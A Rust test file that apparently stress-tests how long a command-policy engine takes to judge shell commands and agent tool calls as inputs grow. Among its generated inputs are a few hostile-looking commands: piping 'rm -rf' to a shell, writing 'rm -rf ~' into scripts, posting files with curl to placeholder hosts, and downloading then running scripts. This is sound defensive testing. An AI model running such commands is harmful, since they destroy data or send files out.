//! Judging takes time in proportion to what is judged: a source twice as long takes about twice as
//! long, whatever it holds.

use crate::support::{CWD, facts};
use countersign_core::Request;
use countersign_policy::{Policy, Settings, tool_request};
use serde_json::json;
use std::fmt::Write as _;
use std::time::{Duration, Instant};

/// `each` for every number below `n`, with something around.
fn many(n: usize, before: &str, each: impl Fn(usize) -> String, after: &str) -> String {
    let mut source = before.to_owned();
    for i in 0..n {
        source.push_str(&each(i));
    }
    source + after
}

fn command(source: impl AsRef<str>) -> Request {
    Request::command("test", "test", CWD, source.as_ref())
}

type Hostile = (&'static str, usize, fn(usize) -> Request);

/// What is hostile, a size that takes some milliseconds, and the source of a size.
const HOSTILE: &[Hostile] = &[
    ("a list", 100, |n| command("ls; ".repeat(n))),
    ("unknown programs", 100, |n| {
        command(many(n, "", |i| format!("prog{i} a b; "), ""))
    }),
    ("a pipeline", 100, |n| {
        command(format!("ls{}", " | cat".repeat(n)))
    }),
    ("a pipeline of text", 100, |n| {
        command(format!("echo rm -rf x{} | sh", " | cat".repeat(n)))
    }),
    ("nested groups", 50, |n| {
        command(format!("{}ls{}", "{ ".repeat(n), "; }".repeat(n)))
    }),
    ("nested subshells", 50, |n| {
        command(format!("{}ls{}", "(".repeat(n), ")".repeat(n)))
    }),
    ("nested substitutions", 25, |n| {
        command(format!("{}ls{}", "echo $(".repeat(n), ")".repeat(n)))
    }),
    ("nested conditions", 25, |n| {
        command(format!(
            "{}ls{}",
            "if true; then ".repeat(n),
            "; fi".repeat(n)
        ))
    }),
    ("functions that call the next", 50, |n| {
        command(many(n, "", |i| format!("f{i}() {{ f{}; }}; ", i + 1), "f0"))
    }),
    ("functions that call all others", 6, |n| {
        let calls = many(n, "", |i| format!("f{i}; "), "");
        command(many(n, "", |i| format!("f{i}() {{ {calls} }}; "), "f0"))
    }),
    ("functions that call the next twice", 8, |n| {
        command(many(
            n,
            "",
            |i| format!("f{i}() {{ f{0}; f{0}; }}; ", i + 1),
            "f0",
        ))
    }),
    ("calls of one function", 50, |n| {
        command(format!("f() {{ ls; }}; {}", "f; ".repeat(n)))
    }),
    ("loops over several values", 25, |n| {
        command(many(
            n,
            "",
            |i| format!("for v{i} in a b c; do ls $v{i}; done; "),
            "",
        ))
    }),
    ("nested loops over several values", 6, |n| {
        command(format!(
            "{}ls{}{}",
            many(n, "", |i| format!("for v{i} in a b c; do "), ""),
            many(n, "", |i| format!(" $v{i}"), ""),
            "; done".repeat(n)
        ))
    }),
    ("values of a loop", 50, |n| {
        command(many(
            n,
            "for v in",
            |i| format!(" a{i}"),
            "; do ls $v; rm $v; done",
        ))
    }),
    ("assignments", 100, |n| {
        command(many(n, "", |i| format!("v{i}=x; "), ""))
    }),
    ("assignments that are used", 100, |n| {
        command(many(n, "", |i| format!("v{i}=x; ls $v{i}; "), ""))
    }),
    ("assignments in branches", 50, |n| {
        command(many(
            n,
            "",
            |i| format!("if a; then v{i}=x; else v{i}=y; fi; ls $v{i}; "),
            "",
        ))
    }),
    ("a variable that grows", 50, |n| {
        command(format!("v=x; {} ls $v", "v=$v$v; ".repeat(n)))
    }),
    ("an array that grows", 50, |n| {
        command(format!("a=(); {} ls \"${{a[@]}}\"", "a+=(x); ".repeat(n)))
    }),
    ("words of an array", 100, |n| {
        command(format!("a=({}); ls \"${{a[@]}}\"", "x ".repeat(n)))
    }),
    ("positional parameters", 100, |n| {
        command(format!(
            "set -- {}; {}",
            "x ".repeat(n),
            "shift; ".repeat(n)
        ))
    }),
    ("redirections", 100, |n| {
        command(many(n, "ls", |i| format!(" >f{i}"), ""))
    }),
    ("redirections of commands", 100, |n| {
        command(many(n, "", |i| format!("ls >f{i}; "), ""))
    }),
    ("files written and read", 50, |n| {
        command(many(n, "", |i| format!("echo a >f{i}; cat f{i}; "), ""))
    }),
    ("scripts written", 25, |n| {
        command(many(n, "", |i| format!("echo 'rm -rf ~' > f{i}.sh; "), ""))
    }),
    ("scripts written and run", 25, |n| {
        command(many(
            n,
            "",
            |i| format!("echo ls > f{i}.sh; sh f{i}.sh; "),
            "",
        ))
    }),
    ("a file that grows", 50, |n| {
        command(format!("{} sh f", "echo ls >> f; ".repeat(n)))
    }),
    ("a file that is copied onto itself", 20, |n| {
        command(format!(
            "echo ls > f; {} sh f",
            "cat f f > g; cat g > f; ".repeat(n)
        ))
    }),
    ("descriptors", 50, |n| {
        command(many(
            n,
            "",
            |i| format!("exec {}<f; ls <&{0}; ", i + 10),
            "",
        ))
    }),
    ("directories", 50, |n| command("cd a; ls; ".repeat(n))),
    ("directories that are left again", 50, |n| {
        command("pushd a; ls; popd; ".repeat(n))
    }),
    ("traps", 50, |n| command("trap 'ls' EXIT; ".repeat(n))),
    ("here-documents", 50, |n| {
        command(many(n, "", |i| format!("cat <<E{i}\nx\nE{i}\n"), ""))
    }),
    ("words", 250, |n| command(format!("ls {}", "a ".repeat(n)))),
    ("words to delete", 250, |n| {
        command(many(n, "rm", |i| format!(" a{i}"), ""))
    }),
    ("words to copy", 150, |n| {
        command(many(n, "cp", |i| format!(" a{i}"), " ."))
    }),
    ("globs", 150, |n| {
        command(many(n, "rm", |i| format!(" a{i}*b?c*"), ""))
    }),
    ("globs of many stars", 50, |n| {
        command(format!("rm {}", "a*".repeat(n)))
    }),
    ("braces", 100, |n| {
        command(format!("rm {{{}z}}", "a,".repeat(n)))
    }),
    ("a deep path", 150, |n| {
        command(format!("rm {}x", "a/".repeat(n)))
    }),
    ("a path that goes up", 150, |n| {
        command(format!("rm {}x", "a/../".repeat(n)))
    }),
    ("options", 150, |n| {
        command(format!("ls {}", "-l ".repeat(n)))
    }),
    ("unknown options", 150, |n| {
        command(many(n, "ls", |i| format!(" --unknown-{i}"), ""))
    }),
    ("a cluster of options", 150, |n| {
        command(format!("ls -{}", "l".repeat(n)))
    }),
    ("wrappers", 6, |n| {
        command(format!("{}ls", "env ".repeat(n)))
    }),
    ("unknown wrappers", 6, |n| {
        command(format!("{}ls", "wrap ".repeat(n)))
    }),
    ("curls", 50, |n| {
        command(many(
            n,
            "",
            |i| format!("curl -d @f{i} https://h{i}.example; "),
            "",
        ))
    }),
    ("headers", 100, |n| {
        command(many(
            n,
            "curl https://h.example",
            |i| format!(" -H 'a: {i}'"),
            "",
        ))
    }),
    ("downloads that are run", 25, |n| {
        command(many(
            n,
            "",
            |i| format!("curl https://h -o f{i}; sh f{i}; "),
            "",
        ))
    }),
    ("a line of one word", 10_000, |n| {
        command(format!("ls {}", "a".repeat(n)))
    }),
    ("a line of text", 10_000, |n| {
        command(format!("echo '{}'", "a b;".repeat(n / 4)))
    }),
    ("text that a shell reads", 2500, |n| {
        command(format!("echo '{}' | sh", "ls; ".repeat(n / 40)))
    }),
    ("an awk program", 2500, |n| {
        command(format!("awk '{{ {} }}' f", "print 1; ".repeat(n / 20)))
    }),
    ("a sed script", 2500, |n| {
        command(format!("sed '{}' f", "s/a/b/;".repeat(n / 20)))
    }),
    ("an SQL script", 2500, |n| {
        command(format!("psql -c '{}'", "select 1; ".repeat(n / 20)))
    }),
    ("a patch", 50, |n| {
        let each = |i| format!("--- a/f{i}\n+++ b/f{i}\n@@ -1 +1 @@\n-a\n+b\n");
        command(format!("git apply <<'E'\n{}E", many(n, "", each, "")))
    }),
    ("arguments of a server, deep", 20, |n| {
        let mut value = json!("x");
        for _ in 0..n {
            value = json!({ "a": value });
        }
        tool("mcp__server__act", &json!({ "a": value }))
    }),
    ("arguments of a server, many", 100, |n| {
        let values: Vec<_> = (0..n)
            .map(|i| json!({ "path": format!("src/f{i}"), "command": "ls" }))
            .collect();
        tool("mcp__server__act", &json!({ "files": values }))
    }),
    ("a file that is written", 2500, |n| {
        tool(
            "Write",
            &json!({ "file_path": "/home/user/project/x.sh", "content": "ls a\n".repeat(n / 20) }),
        )
    }),
];

fn tool(name: &str, input: &serde_json::Value) -> Request {
    let input = input.as_object().expect("an object").clone();
    tool_request("test", name, &input, CWD)
}

/// The least time of some runs.
fn time(policy: &Policy, request: &Request, runs: usize) -> Duration {
    let facts = facts();
    let once = || {
        let begin = Instant::now();
        let judgement = policy.judge(request, &facts);
        let took = begin.elapsed();
        drop(judgement);
        took
    };
    (0..runs).map(|_| once()).min().unwrap_or_default()
}

/// How much there is to judge.
fn length(request: &Request) -> usize {
    let command = request.command.as_ref().map_or(0, String::len);
    let input = request.input.as_ref();
    let input = input.map_or(0, |input| {
        serde_json::to_string(input).map_or(0, |text| text.len())
    });
    command.max(input).max(1)
}

/// Below this the clock and the machine say more than the source.
const FLOOR: Duration = Duration::from_millis(3);

/// How much longer twice as much may take.
const DOUBLED: f64 = 3.0;

/// Whether the time of `long` is out of proportion to that of `short`.
fn is_steep(policy: &Policy, short: &Request, long: &Request, runs: usize) -> Option<String> {
    let (less, more) = (time(policy, short, runs), time(policy, long, runs));
    let ratio = |long: f64, short: f64| long / short;
    let took = ratio(more.as_secs_f64(), less.max(FLOOR).as_secs_f64());
    #[expect(clippy::cast_precision_loss, reason = "lengths of a few kilobytes")]
    let longer = ratio(length(long) as f64, length(short) as f64);
    (took > DOUBLED.powf(longer.log2()))
        .then(|| format!("{less:?}, {more:?} for {longer:.1} times as much"))
}

#[test]
fn twice_as_much_takes_about_twice_as_long() {
    let policy = Policy::new(Settings::default());
    let mut slow = String::new();
    for (name, n, of) in HOSTILE {
        let (short, long) = (of(*n), of(n * 4));
        // A machine that is busy is asked again.
        let tries = (0..5).map(|runs| is_steep(&policy, &short, &long, runs + 1));
        if let Some(told) = tries.collect::<Option<Vec<_>>>() {
            let _infallible = writeln!(slow, "{name}: {}", told.join("; "));
        }
    }
    assert!(slow.is_empty(), "{slow}");
}
